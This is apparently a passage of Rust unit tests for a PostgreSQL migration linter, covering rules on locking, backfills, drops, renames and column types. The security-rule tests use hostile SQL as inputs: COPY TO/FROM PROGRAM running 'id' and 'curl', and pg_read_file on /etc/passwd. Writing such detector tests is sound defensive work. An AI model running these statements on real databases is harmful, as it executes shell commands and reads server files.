//! Unit tests of the static DDL rules.

use super::*;
use crate::runner::{Batch, Transactions};
use std::path::PathBuf;
use std::sync::Arc;

/// The findings of one migration, as the first of its set.
fn findings_of(m: &Migration) -> Vec<Finding> {
    let mut out = Bounded::new();
    migration_findings(m, &mut Proven::default(), &mut out);
    out.finish()
}

/// Rule ids and 1-based lines of the findings on `sql` (one migration, psql-style batches).
fn lint(sql: &str) -> Vec<(String, usize)> {
    let text: Arc<str> = Arc::from(sql);
    let batches = sql::split(sql)
        .into_iter()
        .filter(|s| !s.is_empty())
        .map(|s| Batch {
            span: s.code,
            copy: None,
        })
        .collect();
    let m = Migration {
        id: "001".into(),
        file: PathBuf::from("001.sql"),
        text: text.clone(),
        batches,
        transactions: Transactions::Autocommit,
        blocked: None,
    };
    let index = sql::LineIndex::new(sql);
    findings_of(&m)
        .into_iter()
        .map(|f| {
            let start = f.location.and_then(|l| l.span).map_or(0, |s| s.start);
            (f.rule, index.line_col(sql, start).0 as usize)
        })
        .collect()
}

fn rules(sql: &str) -> Vec<String> {
    lint(sql).into_iter().map(|(r, _)| r).collect()
}

#[test]
fn every_id_is_registered() {
    for id in IDS {
        assert!(crate::registry::rule(id).is_some(), "{id} is not in RULES");
    }
}

#[test]
fn add_required_column_only_on_existing_tables_without_default() {
    assert_eq!(
        rules("ALTER TABLE users ADD COLUMN age int NOT NULL;"),
        ["add-required-column"]
    );
    assert_eq!(
        rules("ALTER TABLE users ADD COLUMN age bigint PRIMARY KEY;"),
        ["add-required-column"]
    );
    for ok in [
        "ALTER TABLE users ADD COLUMN age int NOT NULL DEFAULT 0;",
        "ALTER TABLE users ADD COLUMN age int;",
        "ALTER TABLE users ADD COLUMN n bigserial NOT NULL;",
        "ALTER TABLE users ADD COLUMN n bigint NOT NULL GENERATED ALWAYS AS IDENTITY;",
        "ALTER TABLE users ADD COLUMN n bigint NOT NULL GENERATED ALWAYS AS (id * 2) STORED;",
        "CREATE TABLE users (id bigint); ALTER TABLE users ADD COLUMN age int NOT NULL;",
        "CREATE TABLE a (id bigint); ALTER TABLE a RENAME TO users; ALTER TABLE users ADD COLUMN x int NOT NULL;",
        "-- ALTER TABLE users ADD COLUMN age int NOT NULL;\nSELECT 'ALTER TABLE users ADD COLUMN age int NOT NULL';",
        "DELETE FROM users; ALTER TABLE users ADD COLUMN age int NOT NULL;",
        "DELETE FROM ONLY public.users; ALTER TABLE public.users ADD COLUMN age int NOT NULL;",
        "TRUNCATE logs, users CASCADE; ALTER TABLE users ADD COLUMN age int NOT NULL;",
        "TRUNCATE TABLE ONLY users; ALTER TABLE users ADD UNIQUE (email);",
    ] {
        assert!(
            !rules(ok).iter().any(|r| r == "add-required-column"),
            "{ok}: {:?}",
            rules(ok)
        );
    }
    assert_eq!(
        rules("ALTER TABLE users ADD COLUMN age int NOT NULL DEFAULT NULL;"),
        ["add-required-column"]
    );
    // Rows are left: a filtered or joined DELETE, another table emptied, or emptied only afterwards.
    for flagged in [
        "DELETE FROM users WHERE id < 0; ALTER TABLE users ADD COLUMN age int NOT NULL;",
        "DELETE FROM users USING bans WHERE users.id = bans.id; ALTER TABLE users ADD COLUMN age int NOT NULL;",
        "TRUNCATE logs; ALTER TABLE users ADD COLUMN age int NOT NULL;",
        "ALTER TABLE users ADD COLUMN age int NOT NULL; DELETE FROM users;",
    ] {
        assert!(
            rules(flagged).iter().any(|r| r == "add-required-column"),
            "{flagged}: {:?}",
            rules(flagged)
        );
    }
}

#[test]
fn an_object_renamed_out_of_the_way_of_its_replacement_is_neither_renamed_nor_lost() {
    let swap = "ALTER TYPE mood RENAME TO mood_old;\n\
                CREATE TYPE mood AS ENUM ('a', 'b', 'c');\n\
                ALTER TABLE people ALTER COLUMN m TYPE mood USING m::text::mood;\n\
                DROP TYPE mood_old;";
    assert!(rules(swap).is_empty(), "{:?}", rules(swap));
    // Renamed and dropped with nothing in its place: both are reported.
    assert_eq!(
        rules("ALTER TYPE mood RENAME TO mood_old;\nDROP TYPE mood_old;"),
        ["rename", "drop-object"]
    );
    // A new object under another name does not stand in for the old one.
    assert_eq!(
        rules(
            "ALTER TYPE mood RENAME TO mood_old;\nCREATE TYPE feeling AS ENUM ('a');\nDROP TYPE mood_old;"
        ),
        ["rename", "drop-object"]
    );
}

#[test]
fn set_not_null_is_quiet_after_a_backfill() {
    assert_eq!(
        rules("ALTER TABLE users ALTER COLUMN email SET NOT NULL;"),
        ["not-null-on-existing-data"]
    );
    assert!(
        rules(
            "UPDATE users SET email = '' WHERE email IS NULL;\nALTER TABLE users ALTER COLUMN email SET NOT NULL;"
        )
        .is_empty()
    );
    assert!(
        rules(
            "ALTER TABLE users ADD COLUMN c int DEFAULT 0; ALTER TABLE users ALTER c SET NOT NULL;"
        )
        .is_empty()
    );
    // Added without a default: every existing row holds NULL.
    assert_eq!(
        rules("ALTER TABLE users ADD COLUMN c int; ALTER TABLE users ALTER c SET NOT NULL;"),
        ["not-null-on-existing-data"]
    );
    assert!(
        rules("ALTER TABLE users ADD COLUMN c int;\nUPDATE users SET c = 0;\nALTER TABLE users ALTER c SET NOT NULL;")
            .is_empty()
    );
}

#[test]
fn only_a_backfill_that_reaches_every_null_row_counts() {
    let set = "\nALTER TABLE users ALTER COLUMN email SET NOT NULL;";
    for covers in [
        "UPDATE users SET email = '';",
        "UPDATE users SET email = coalesce(email, '') RETURNING id;",
        "UPDATE users SET email = '' WHERE email IS NULL;",
        "UPDATE users SET email = '' WHERE (users.email IS NULL);",
        "UPDATE users SET email = '' WHERE email IS NULL OR email = 'n/a';",
        "UPDATE users SET email = '' WHERE email = 'n/a' OR (email IS NULL);",
    ] {
        let sql = format!("{covers}{set}");
        assert!(rules(&sql).is_empty(), "{sql}: {:?}", rules(&sql));
    }
    for partial in [
        "UPDATE users SET email = '' WHERE random() > 0.5;",
        "UPDATE users SET email = '' WHERE email IS NULL AND id < 1000;",
        "UPDATE users SET email = '' WHERE email IS NOT NULL;",
        "UPDATE users SET email = '' WHERE nickname IS NULL;",
        "UPDATE users SET email = p.email FROM profiles p WHERE p.user_id = users.id;",
        "UPDATE users SET email = NULL;",
    ] {
        let sql = format!("{partial}{set}");
        assert_eq!(rules(&sql), ["not-null-on-existing-data"], "{sql}");
    }
}

#[test]
fn set_not_null_is_quiet_after_a_validated_not_null_check() {
    let set_not_null = "ALTER TABLE users ALTER COLUMN email SET NOT NULL;";
    for (before, fires) in [
        (
            "ALTER TABLE users ADD CONSTRAINT email_nn CHECK (email IS NOT NULL) NOT VALID;\n\
             ALTER TABLE users VALIDATE CONSTRAINT email_nn;",
            false,
        ),
        (
            "ALTER TABLE users ADD CONSTRAINT email_nn CHECK ((email IS NOT NULL));",
            false,
        ),
        // Not validated yet: NULLs may still be there.
        (
            "ALTER TABLE users ADD CONSTRAINT email_nn CHECK (email IS NOT NULL) NOT VALID;",
            true,
        ),
        // Another column, another constraint, another condition.
        (
            "ALTER TABLE users ADD CONSTRAINT name_nn CHECK (name IS NOT NULL);",
            true,
        ),
        (
            "ALTER TABLE users ADD CONSTRAINT email_nn CHECK (email IS NOT NULL) NOT VALID;\n\
             ALTER TABLE users VALIDATE CONSTRAINT other;",
            true,
        ),
        (
            "ALTER TABLE users ADD CONSTRAINT email_nn CHECK (email IS NOT NULL OR id < 0);",
            true,
        ),
    ] {
        let found = rules(&format!("{before}\n{set_not_null}"));
        assert_eq!(
            found.contains(&"not-null-on-existing-data".to_string()),
            fires,
            "{before}: {found:?}"
        );
    }
}

#[test]
fn a_not_null_check_validated_in_an_earlier_migration_counts() {
    let migration = |id: &str, sql: &str| {
        let text: Arc<str> = Arc::from(sql);
        Migration {
            id: id.into(),
            file: PathBuf::from(format!("{id}.sql")),
            text,
            batches: sql::split(sql)
                .into_iter()
                .filter(|s| !s.is_empty())
                .map(|s| Batch {
                    span: s.code,
                    copy: None,
                })
                .collect(),
            transactions: Transactions::Autocommit,
            blocked: None,
        }
    };
    let add = migration(
        "001",
        "ALTER TABLE users ADD CONSTRAINT email_nn CHECK (email IS NOT NULL) NOT VALID;",
    );
    let validate = migration("002", "ALTER TABLE users VALIDATE CONSTRAINT email_nn;");
    let set = migration("003", "ALTER TABLE users ALTER COLUMN email SET NOT NULL;");
    let rules_of =
        |ms: &[Migration]| -> Vec<String> { findings_in(ms).into_iter().map(|f| f.rule).collect() };
    assert!(
        !rules_of(&[add.clone(), validate, set.clone()])
            .contains(&"not-null-on-existing-data".to_string())
    );
    assert!(rules_of(&[add, set]).contains(&"not-null-on-existing-data".to_string()));
}

#[test]
fn unique_indexes_and_constraints_on_existing_tables() {
    assert_eq!(
        lint("CREATE UNIQUE INDEX CONCURRENTLY u ON users (email);"),
        [("unique-on-existing-data".to_string(), 1)]
    );
    assert_eq!(
        rules("ALTER TABLE users ADD CONSTRAINT u UNIQUE (email);"),
        ["unique-on-existing-data"]
    );
    assert!(rules("ALTER TABLE users ADD CONSTRAINT u UNIQUE USING INDEX u_idx;").is_empty());
    assert!(rules("CREATE TABLE t (a int); CREATE UNIQUE INDEX ON t (a);").is_empty());
    assert!(rules("CREATE INDEX i ON users (email);").is_empty());
}

#[test]
fn drop_index_reindex_vacuum_cluster() {
    assert_eq!(rules("DROP INDEX i;"), ["drop-index-without-concurrently"]);
    assert!(rules("DROP INDEX CONCURRENTLY IF EXISTS i;").is_empty());
    assert!(rules("CREATE INDEX i ON t (a); DROP INDEX i;").is_empty());
    assert_eq!(
        rules("REINDEX TABLE users;"),
        ["reindex-without-concurrently"]
    );
    assert!(rules("REINDEX TABLE CONCURRENTLY users;").is_empty());
    assert!(rules("REINDEX (CONCURRENTLY, VERBOSE) INDEX i;").is_empty());
    assert!(rules("REINDEX SYSTEM;").is_empty());
    assert_eq!(rules("VACUUM FULL users;"), ["vacuum-full-or-cluster"]);
    assert_eq!(rules("VACUUM (FULL, ANALYZE);"), ["vacuum-full-or-cluster"]);
    assert!(rules("VACUUM ANALYZE users;").is_empty());
    assert_eq!(
        rules("CLUSTER users USING users_pkey;"),
        ["vacuum-full-or-cluster"]
    );
    assert!(rules("CREATE TABLE s (a int); VACUUM FULL s;").is_empty());
}

#[test]
fn boolean_options_read_every_postgresql_spelling() {
    for off in [
        "'false'", "0", "'0'", "off", "'off'", "no", "'no'", "FALSE", "f", "'of'",
    ] {
        let vacuum = format!("VACUUM (FULL {off}) users;");
        assert!(rules(&vacuum).is_empty(), "{vacuum}: {:?}", rules(&vacuum));
        let reindex = format!("REINDEX (CONCURRENTLY {off}) TABLE users;");
        assert_eq!(
            rules(&reindex),
            ["reindex-without-concurrently"],
            "{reindex}"
        );
    }
    for on in [
        "", " true", " 'true'", " 1", " '1'", " on", " 'on'", " yes", " 'YES'", " t",
    ] {
        let vacuum = format!("VACUUM (FULL{on}) users;");
        assert_eq!(rules(&vacuum), ["vacuum-full-or-cluster"], "{vacuum}");
        let reindex = format!("REINDEX (CONCURRENTLY{on}) TABLE users;");
        assert!(
            rules(&reindex).is_empty(),
            "{reindex}: {:?}",
            rules(&reindex)
        );
    }
    // Another option's value says nothing about FULL / CONCURRENTLY.
    assert_eq!(
        rules("VACUUM (FULL, TRUNCATE off) users;"),
        ["vacuum-full-or-cluster"]
    );
    assert!(rules("REINDEX (CONCURRENTLY, VERBOSE false) TABLE users;").is_empty());
    assert!(rules("VACUUM (ANALYZE, VERBOSE) users;").is_empty());
}

#[test]
fn destructive_drops_and_truncate() {
    assert_eq!(rules("DROP DATABASE app;"), ["drop-database"]);
    assert_eq!(rules("DROP SCHEMA IF EXISTS old CASCADE;"), ["drop-schema"]);
    assert!(rules("CREATE SCHEMA tmp; DROP SCHEMA tmp;").is_empty());
    assert_eq!(rules("DROP VIEW v, w;"), ["drop-object"]);
    assert_eq!(rules("DROP FUNCTION f(int), g();"), ["drop-object"]);
    // Re-created in the same migration: a redefinition.
    assert!(rules("DROP VIEW v;\nCREATE VIEW v AS SELECT 1;").is_empty());
    assert!(rules("DROP FUNCTION f(int);\nCREATE FUNCTION f(a int) RETURNS int LANGUAGE sql AS $$ SELECT a $$;").is_empty());
    assert_eq!(rules("DROP TRIGGER t ON users;"), ["drop-object"]);
    assert_eq!(rules("TRUNCATE users;"), ["truncate-table"]);
    assert_eq!(
        rules("CREATE TABLE s (a int); TRUNCATE s CASCADE;"),
        ["truncate-table"]
    );
    assert!(rules("CREATE TABLE s (a int); TRUNCATE s;").is_empty());
    // DROP TABLE is observed during replay (drop-table), not here.
    assert!(rules("DROP TABLE users;").is_empty());
}

#[test]
fn backward_incompatible_column_changes() {
    assert_eq!(
        rules("ALTER TABLE t ALTER COLUMN a DROP NOT NULL;"),
        ["drop-not-null"]
    );
    assert_eq!(
        rules("ALTER TABLE t ALTER a DROP DEFAULT;"),
        ["drop-default"]
    );
    assert!(
        rules("ALTER TABLE t ALTER a DROP DEFAULT;\nALTER TABLE t ALTER a SET DEFAULT 1;")
            .is_empty()
    );
    assert_eq!(
        rules("ALTER TABLE t DROP CONSTRAINT t_a_check;"),
        ["drop-constraint"]
    );
    assert!(
        rules("ALTER TABLE t DROP CONSTRAINT c;\nALTER TABLE t ADD CONSTRAINT c CHECK (a > 0) NOT VALID;")
            .is_empty()
    );
    // The lock-safe NOT NULL pattern drops its temporary CHECK.
    assert!(
        rules("ALTER TABLE t ALTER a SET NOT NULL;\nALTER TABLE t DROP CONSTRAINT t_a_not_null;")
            .iter()
            .all(|r| r != "drop-constraint")
    );
    assert!(
        rules("ALTER TABLE t ADD CONSTRAINT tmp CHECK (a > 0) NOT VALID;\nALTER TABLE t DROP CONSTRAINT tmp;")
            .is_empty()
    );
    assert_eq!(
        rules("ALTER TABLE t ALTER a DROP IDENTITY;"),
        ["identity-change"]
    );
    assert_eq!(
        rules("ALTER TABLE t ALTER a SET GENERATED ALWAYS;"),
        ["identity-change"]
    );
    assert_eq!(
        rules("ALTER TABLE t ALTER a DROP EXPRESSION;"),
        ["generated-column-change"]
    );
    assert_eq!(
        rules("ALTER TABLE t REPLICA IDENTITY FULL;"),
        ["replica-identity-change"]
    );
    assert!(rules("ALTER TABLE t REPLICA IDENTITY DEFAULT;").is_empty());
    assert_eq!(
        rules("ALTER TABLE t DISABLE TRIGGER ALL;"),
        ["disable-trigger"]
    );
    assert!(
        rules("ALTER TABLE t DISABLE TRIGGER ALL;\nUPDATE t SET a = 1;\nALTER TABLE t ENABLE TRIGGER ALL;")
            .is_empty()
    );
    // Columns of tables created in the same migration are new: nobody relies on them yet.
    assert!(
        rules("CREATE TABLE t (a int NOT NULL); ALTER TABLE t ALTER a DROP NOT NULL;").is_empty()
    );
}

#[test]
fn renames_of_other_objects() {
    assert_eq!(rules("ALTER VIEW v RENAME TO w;"), ["rename"]);
    assert_eq!(
        rules("ALTER TYPE mood RENAME VALUE 'sad' TO 'blue';"),
        ["rename"]
    );
    assert_eq!(rules("ALTER FUNCTION f(int) SET SCHEMA util;"), ["rename"]);
    assert!(rules("CREATE VIEW v AS SELECT 1; ALTER VIEW v RENAME TO w;").is_empty());
    // Table renames are observed during replay.
    assert!(rules("ALTER TABLE t RENAME TO u;").is_empty());
}

#[test]
fn column_types() {
    let sql = "CREATE TABLE t (\n  id serial PRIMARY KEY,\n  code char(3),\n  name varchar(100) NOT NULL,\n  note character varying,\n  at timestamp,\n  at2 timestamp with time zone,\n  qty integer,\n  \"char\" text\n);";
    assert_eq!(
        lint(sql),
        [
            ("prefer-identity".to_string(), 2),
            ("prefer-bigint".to_string(), 2),
            ("char-column".to_string(), 3),
            ("prefer-text".to_string(), 4),
            ("prefer-timestamptz".to_string(), 6),
        ]
    );
    assert_eq!(
        rules("CREATE TABLE t (a int, b int, PRIMARY KEY (a));"),
        ["prefer-bigint"]
    );
    assert_eq!(
        rules("CREATE TABLE t (id int GENERATED ALWAYS AS IDENTITY);"),
        ["prefer-bigint"]
    );
    assert!(rules("CREATE TABLE t (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, n int, s text, ts timestamptz);").is_empty());
    assert_eq!(
        rules("ALTER TABLE t ALTER COLUMN s TYPE varchar(20);"),
        ["prefer-text"]
    );
    assert_eq!(
        rules("ALTER TABLE t ADD COLUMN ts timestamp(3);"),
        ["prefer-timestamptz"]
    );
}

#[test]
fn operations_rules() {
    assert_eq!(
        rules("ALTER TABLE t SET (autovacuum_enabled = false);"),
        ["autovacuum-disabled"]
    );
    assert_eq!(
        rules("CREATE TABLE t (a bigint) WITH (autovacuum_enabled = off);"),
        ["autovacuum-disabled"]
    );
    assert!(rules("ALTER TABLE t SET (autovacuum_vacuum_scale_factor = 0.01);").is_empty());
    assert_eq!(
        rules("CREATE DOMAIN pos AS int CHECK (VALUE > 0);"),
        ["domain-constraint"]
    );
    assert_eq!(
        rules("ALTER DOMAIN pos ADD CONSTRAINT c CHECK (VALUE < 10);"),
        ["domain-constraint"]
    );
    assert!(rules("ALTER DOMAIN pos ADD CONSTRAINT c CHECK (VALUE < 10) NOT VALID;").is_empty());
    let long = "a".repeat(64);
    assert_eq!(
        rules(&format!("CREATE TABLE t (id bigint, {long} text);")),
        ["identifier-too-long"]
    );
    assert!(
        rules(&format!(
            "CREATE TABLE t (id bigint, {} text);",
            "a".repeat(63)
        ))
        .is_empty()
    );
}

#[test]
fn every_prefix_of_every_form_is_handled_without_panicking() {
    let sql = "CREATE UNLOGGED TABLE IF NOT EXISTS s.\"T\" (id serial PRIMARY KEY, c char(2), v varchar(9), t timestamp(3), CONSTRAINT k PRIMARY KEY (id)) WITH (autovacuum_enabled = false);\n\
        ALTER TABLE ONLY t * ADD COLUMN IF NOT EXISTS a int NOT NULL DEFAULT NULL, ALTER COLUMN b SET DATA TYPE varchar(3) USING b::text, ALTER b DROP NOT NULL, DROP CONSTRAINT IF EXISTS x, REPLICA IDENTITY FULL, DISABLE TRIGGER ALL, SET (autovacuum_enabled = 'off'), ENABLE REPLICA TRIGGER y, RENAME TO u;\n\
        UPDATE ONLY t AS q SET (a, b) = (1, 2), q.c = 3 FROM z WHERE true;\n\
        CREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS i ON ONLY t USING btree (a);\n\
        DROP FUNCTION IF EXISTS f(int, text), g() CASCADE; DROP INDEX CONCURRENTLY i; TRUNCATE TABLE ONLY a, ONLY b RESTART IDENTITY CASCADE;\n\
        REINDEX (VERBOSE, CONCURRENTLY false) TABLE t; VACUUM (FULL, ANALYZE) t (a); CLUSTER (VERBOSE) t USING i;\n\
        ALTER DOMAIN d ADD CONSTRAINT c CHECK (VALUE > 0); ALTER TYPE e RENAME VALUE 'a' TO 'b'; CREATE DOMAIN d2 AS int NOT NULL;";
    for end in 0..=sql.len() {
        if sql.is_char_boundary(end) {
            let _ = lint(&sql[..end]);
        }
    }
}

#[test]
fn unknown_statements_do_not_stop_the_walk() {
    let sql = "ALTER TABLE ;\nDO $$ BEGIN ALTER TABLE x DROP CONSTRAINT y; END $$;\nSELEC 1;\nDROP INDEX i;";
    assert_eq!(
        lint(sql),
        [("drop-index-without-concurrently".to_string(), 4)]
    );
    for junk in [
        "ALTER",
        "CREATE TABLE",
        "DROP",
        "ALTER TABLE t ALTER",
        "UPDATE",
        "REINDEX (",
        "VACUUM (",
        "CREATE TABLE t (a",
        "\u{e9}\u{e9}",
    ] {
        let _ = lint(junk);
    }
}

#[test]
fn quoted_type_names_are_the_types_they_name() {
    assert_eq!(
        rules("CREATE TABLE t (id \"serial\" PRIMARY KEY);"),
        ["prefer-identity", "prefer-bigint"]
    );
    assert_eq!(rules("CREATE TABLE t (flag \"char\");"), ["char-column"]);
    assert_eq!(
        rules("CREATE TABLE t (code \"bpchar\"(3));"),
        ["char-column"]
    );
    assert_eq!(
        rules("CREATE TABLE t (name \"varchar\"(20));"),
        ["prefer-text"]
    );
    assert_eq!(
        rules("CREATE TABLE t (at pg_catalog.\"timestamp\");"),
        ["prefer-timestamptz"]
    );
    // Case matters inside quotes: `"Serial"` is a user type, not serial.
    assert!(rules("CREATE TABLE t (id \"Serial\" PRIMARY KEY);").is_empty());
    assert!(rules("CREATE TABLE t (name \"text\");").is_empty());
}

#[test]
fn a_long_identifier_in_drop_is_truncated_too() {
    let long = "subscription_renewal_reminder_notification_delivery_attempt_log_v2";
    assert_eq!(
        rules(&format!("DROP TABLE IF EXISTS {long};")),
        ["identifier-too-long"]
    );
    assert!(rules("DROP TABLE IF EXISTS reminder_delivery_attempts;").is_empty());
}

#[test]
fn renames_of_every_kind_of_object() {
    for (sql, kind) in [
        (
            "ALTER INDEX accounts_email_idx RENAME TO accounts_mail_idx;",
            "index",
        ),
        (
            "ALTER TRIGGER touch ON accounts RENAME TO touch_v2;",
            "trigger",
        ),
        (
            "ALTER POLICY owner_only ON accounts RENAME TO owners;",
            "policy",
        ),
        (
            "ALTER FOREIGN TABLE remote_accounts RENAME TO remote;",
            "foreign table",
        ),
        (
            "ALTER FOREIGN TABLE remote_accounts RENAME COLUMN a TO b;",
            "foreign table",
        ),
        (
            "ALTER AGGREGATE total(int) RENAME TO sum_total;",
            "aggregate",
        ),
        ("ALTER ROUTINE refresh() RENAME TO refresh_all;", "routine"),
        ("ALTER COLLATION german RENAME TO de;", "collation"),
        (
            "ALTER TEXT SEARCH CONFIGURATION en RENAME TO english_v2;",
            "text search object",
        ),
        ("ALTER STATISTICS s1 RENAME TO s2;", "statistics object"),
        (
            "ALTER RULE archive ON accounts RENAME TO archive_v2;",
            "rule",
        ),
        ("ALTER PUBLICATION pub RENAME TO pub2;", "publication"),
        ("ALTER SERVER remote RENAME TO remote2;", "server"),
        ("ALTER EXTENSION hstore SET SCHEMA ext;", "extension"),
        (
            "ALTER OPERATOR CLASS my_ops USING btree RENAME TO my_ops2;",
            "operator class",
        ),
        (
            "ALTER EVENT TRIGGER audit RENAME TO audit2;",
            "event trigger",
        ),
    ] {
        assert_eq!(rules(sql), ["rename"], "{sql}: {kind}");
    }
    // Created earlier in this migration: nothing relies on it yet.
    assert!(rules("CREATE INDEX i ON accounts (email); ALTER INDEX i RENAME TO j;").is_empty());
    assert!(rules("ALTER INDEX i SET (fillfactor = 70);").is_empty());
}

#[test]
fn defaults_and_not_null_dropped_from_domains_views_and_foreign_tables() {
    assert_eq!(
        rules("ALTER DOMAIN email DROP NOT NULL;"),
        ["drop-not-null"]
    );
    assert_eq!(rules("ALTER DOMAIN plan DROP DEFAULT;"), ["drop-default"]);
    assert!(
        rules("ALTER DOMAIN plan DROP DEFAULT; ALTER DOMAIN plan SET DEFAULT 'free';").is_empty()
    );
    assert!(
        rules("CREATE DOMAIN plan AS text DEFAULT 'free'; ALTER DOMAIN plan DROP DEFAULT;")
            .is_empty()
    );
    assert_eq!(
        rules("ALTER VIEW active_accounts ALTER COLUMN plan DROP DEFAULT;"),
        ["drop-default"]
    );
    assert_eq!(
        rules("ALTER FOREIGN TABLE remote ALTER COLUMN plan DROP DEFAULT;"),
        ["drop-default"]
    );
    assert_eq!(
        rules("ALTER FOREIGN TABLE IF EXISTS remote ALTER email DROP NOT NULL;"),
        ["drop-not-null"]
    );
    // A foreign table holds no local rows: its NOT NULL and new columns check nothing here.
    assert!(rules("ALTER FOREIGN TABLE remote ALTER COLUMN email SET NOT NULL;").is_empty());
    assert!(rules("ALTER FOREIGN TABLE remote ADD COLUMN n int NOT NULL;").is_empty());
}

#[test]
fn drops_of_routines_casts_foreign_tables_and_other_objects() {
    for sql in [
        "DROP ROUTINE refresh_totals();",
        "DROP CAST (text AS plan);",
        "DROP CAST IF EXISTS (text AS plan);",
        "DROP FOREIGN TABLE remote_accounts;",
        "DROP COLLATION german;",
        "DROP SERVER remote CASCADE;",
        "DROP PUBLICATION pub;",
        "DROP RULE archive ON accounts;",
        "DROP EVENT TRIGGER audit;",
        "DROP TEXT SEARCH CONFIGURATION english_v2;",
        "DROP STATISTICS s1;",
    ] {
        assert_eq!(rules(sql), ["drop-object"], "{sql}");
    }
    assert!(rules("DROP CAST (text AS plan); CREATE CAST (text AS plan) WITH INOUT;").is_empty());
    assert!(rules("DROP FOREIGN TABLE r; CREATE FOREIGN TABLE r (id int) SERVER s;").is_empty());
    assert!(rules("CREATE FOREIGN TABLE r (id int) SERVER s; DROP FOREIGN TABLE r;").is_empty());
}

#[test]
fn trigger_firing_modes() {
    assert_eq!(
        rules("ALTER TABLE accounts ENABLE REPLICA TRIGGER touch;"),
        ["disable-trigger"]
    );
    assert_eq!(
        rules("ALTER TABLE accounts ENABLE ALWAYS TRIGGER touch;"),
        ["disable-trigger"]
    );
    assert_eq!(
        rules("ALTER TABLE accounts DISABLE TRIGGER USER;"),
        ["disable-trigger"]
    );
    // Back to ordinary firing later in the migration: quiet.
    assert!(
        rules("ALTER TABLE accounts ENABLE REPLICA TRIGGER touch; UPDATE accounts SET a = 1; ALTER TABLE accounts ENABLE TRIGGER touch;")
            .is_empty()
    );
    // ENABLE REPLICA does not turn a disabled trigger back on for ordinary sessions.
    assert_eq!(
        rules(
            "ALTER TABLE accounts DISABLE TRIGGER touch; ALTER TABLE accounts ENABLE REPLICA TRIGGER touch;"
        ),
        ["disable-trigger", "disable-trigger"]
    );
    assert!(rules("ALTER TABLE accounts ENABLE TRIGGER touch;").is_empty());
}

// ---------------------------------------------------------------------------------------------------
// Security rules

fn migration(id: &str, sql: &str) -> Migration {
    let batches = sql::split(sql)
        .into_iter()
        .filter(|s| !s.is_empty())
        .map(|s| Batch {
            span: s.code,
            copy: None,
        })
        .collect();
    Migration {
        id: id.into(),
        file: PathBuf::from(format!("{id}.sql")),
        text: Arc::from(sql),
        batches,
        transactions: Transactions::Autocommit,
        blocked: None,
    }
}

/// Rule ids and the exact text of each finding's span.
fn spans(sql: &str) -> Vec<(String, String)> {
    let m = migration("001", sql);
    findings_of(&m)
        .into_iter()
        .map(|f| {
            let span = f.location.and_then(|l| l.span).expect("a span");
            (f.rule, span.slice(sql).to_string())
        })
        .collect()
}

/// Only the findings of the security rules.
fn security_rules(sql: &str) -> Vec<String> {
    rules(sql)
        .into_iter()
        .filter(|r| {
            crate::registry::rule(r).map(|r| r.category) == Some(crate::model::Category::Security)
        })
        .collect()
}

#[test]
fn copy_program_and_server_files_at_their_clause() {
    assert_eq!(
        spans("COPY (SELECT 1) TO PROGRAM 'id > /tmp/pwned';"),
        [("copy-program".into(), "TO PROGRAM 'id > /tmp/pwned'".into())]
    );
    assert_eq!(
        spans("COPY accounts (id, email) FROM PROGRAM 'curl -s https://x';"),
        [(
            "copy-program".into(),
            "FROM PROGRAM 'curl -s https://x'".into()
        )]
    );
    assert_eq!(
        spans("COPY accounts FROM '/var/lib/data.csv' WITH (FORMAT csv);"),
        [(
            "server-file-access".into(),
            "FROM '/var/lib/data.csv'".into()
        )]
    );
    assert_eq!(
        spans("COPY (SELECT * FROM accounts) TO E'/tmp/out.csv';"),
        [("server-file-access".into(), "TO E'/tmp/out.csv'".into())]
    );
    for ok in [
        "COPY accounts (id, email) FROM stdin;\n1\tx@example.com\n\\.\n",
        "COPY accounts FROM STDIN WITH (FORMAT csv);\n1,'TO PROGRAM 'id'\n\\.\n",
        "COPY (SELECT 'FROM ''/etc/passwd''' FROM accounts) TO STDOUT;",
        "-- COPY x TO PROGRAM 'id'\nSELECT 'COPY x TO PROGRAM ''id''';",
        "/* COPY t FROM '/etc/passwd' */ SELECT 1;",
    ] {
        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
    }
}

#[test]
fn server_file_functions_are_calls_of_the_catalog_functions() {
    assert_eq!(
        spans("SELECT pg_read_file('/etc/passwd'), pg_catalog.pg_ls_dir('.');"),
        [
            (
                "server-file-access".into(),
                "pg_read_file('/etc/passwd')".into()
            ),
            (
                "server-file-access".into(),
                "pg_catalog.pg_ls_dir('.')".into()
            ),
        ]
    );
    for sql in [
        "SELECT pg_read_binary_file('global/pg_control');",
        "SELECT pg_stat_file('postgresql.conf');",
        "INSERT INTO blobs (oid) VALUES (lo_import('/etc/hosts'));",
        "SELECT lo_export(oid, '/tmp/out') FROM blobs;",
        "SELECT \"pg_read_file\"('x');",
    ] {
        assert_eq!(security_rules(sql), ["server-file-access"], "{sql}");
    }
    for ok in [
        "SELECT 'pg_read_file(''/etc/passwd'')';",
        "-- SELECT pg_read_file('/etc/passwd');\nSELECT 1;",
        "SELECT app.pg_read_file('x');",
        "CREATE FUNCTION app.pg_ls_dir(text) RETURNS int LANGUAGE sql AS 'SELECT 1';",
        "REVOKE EXECUTE ON FUNCTION pg_read_file(text) FROM PUBLIC;",
        "DROP FUNCTION IF EXISTS app.lo_import(text);",
        "COMMENT ON FUNCTION app.pg_stat_file(text) IS 'x';",
        "SELECT pg_read_file_count FROM stats;",
    ] {
        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
    }
    // Granting the functions or the predefined roles hands the same access out.
    assert_eq!(
        security_rules("GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_file(text) TO reporting;"),
        ["server-file-access"]
    );
    assert_eq!(
        security_rules("GRANT pg_read_server_files, pg_execute_server_program TO etl;"),
        ["server-file-access", "copy-program"]
    );
    assert!(security_rules("GRANT pg_read_all_data TO reporting;").is_empty());
}

#[test]
fn do_blocks_and_sql_routine_bodies_are_read() {
    assert_eq!(
        spans("DO $$ BEGIN PERFORM lo_import('/etc/hosts'); COPY t TO PROGRAM 'id'; END $$;"),
        [
            (
                "server-file-access".into(),
                "lo_import('/etc/hosts')".into()
            ),
            ("copy-program".into(), "TO PROGRAM 'id'".into()),
        ]
    );
    assert_eq!(
        security_rules(
            "CREATE FUNCTION wal_files() RETURNS SETOF text LANGUAGE sql AS $body$ SELECT pg_ls_dir('pg_wal') $body$;"
        ),
        ["server-file-access"]
    );
    // SQL-standard bodies are ordinary tokens.
    assert_eq!(
        security_rules(
